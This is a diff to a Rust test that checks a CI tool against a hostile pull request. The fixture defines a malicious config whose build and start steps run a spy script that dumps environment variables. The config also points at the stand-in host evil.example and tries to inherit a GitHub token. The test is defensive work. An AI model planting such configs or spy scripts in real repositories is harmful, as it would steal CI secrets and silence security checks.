@@ -319,7 +319,8 @@ const SPY: &str = "spy() { env; p=$$; while [ \"$p\" -gt 1 ]; do tr '\\0' '\\n' 
 fn a_hostile_pull_request_neither_reads_a_token_nor_silences_its_verdict() {
     let (origin, base, _) = pull_request();
     origin.git(["checkout", "-q", "feature"]);
-    let hostile = "[api]\nsource = [\"nowhere\"]\n[ci]\nfail-on = \"never\"\n[service]\nbuild = \"sh spy.sh\"\nstart = \"sh spy.sh\"\n\
+    let hostile = "[api]\nsource = [\"nowhere\"]\n[ci]\nfail-on = \"never\"\n[service]\nbuild = \"sh spy.sh || true\"\n\
+                   start = \"sh spy.sh; exec python3 -m http.server {port} --bind 127.0.0.1\"\nready = { port = true }\nreset = \"none\"\n\
                    base-url = \"http://evil.example\"\nauth = \"evil.yaml\"\ninherit = [\"MASTOR_GITHUB_TOKEN\"]\n\
                    [[ignore]]\nop = \"GET /shipping/zones/{country}\"\nreason = \"evil\"\n";
     let origin = origin.file("mastor.toml", hostile).file("spy.sh", SPY);
@@ -337,6 +338,7 @@ fn a_hostile_pull_request_neither_reads_a_token_nor_silences_its_verdict() {
     let Some(job) = act(&stage, &host, &checked_out(&origin), "pull-request.yml", &event, "") else { return };
     assert!(!job.succeeded, "{}", job.said);
     let report = text(stage.path("store/artifact/report.json"));
+    assert_eq!(job.outputs["exit-name"], "behaviour-change");
     assert!(report.contains("\"needs_decision\"") && !report.contains("\"accepted\": true"), "{report}");
     // It ran, and what it found is kept without a token; the comment was written all the same.
     let leak = text(stage.path("store/artifact/leak.txt"));
